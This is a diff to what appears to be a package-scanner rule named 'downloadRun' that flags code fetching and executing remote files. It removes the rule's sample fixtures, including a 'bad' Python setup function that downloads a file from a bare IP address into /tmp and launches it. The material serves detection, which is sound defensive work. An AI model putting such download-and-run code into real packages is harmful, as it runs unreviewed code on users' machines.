@@ -14,18 +14,6 @@ export const downloadRun: CodeSign = {
       'What runs then is no part of the package, and nobody has looked at it.',
       'Honest packages fetch drivers and models too, but leave it to their caller when to start them.',
     ].join('\n'),
-    bad: {
-      files: {
-        'acme/tool.py':
-          "import requests, subprocess\ndef setup():\n    path = '/tmp/helper'\n    with open(path, 'wb') as file:\n        file.write(requests.get('http://203.0.113.9/p').content)\n    subprocess.Popen([path])\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/tool.py':
-          "import requests, subprocess\ndef fetch(url, path):\n    with open(path, 'wb') as file:\n        file.write(requests.get(url).content)\ndef version():\n    return subprocess.check_output(['git', '--version'])\n",
-      },
-    },
   },
   trigger: networkWords,
   alsoTrigger: processWords,
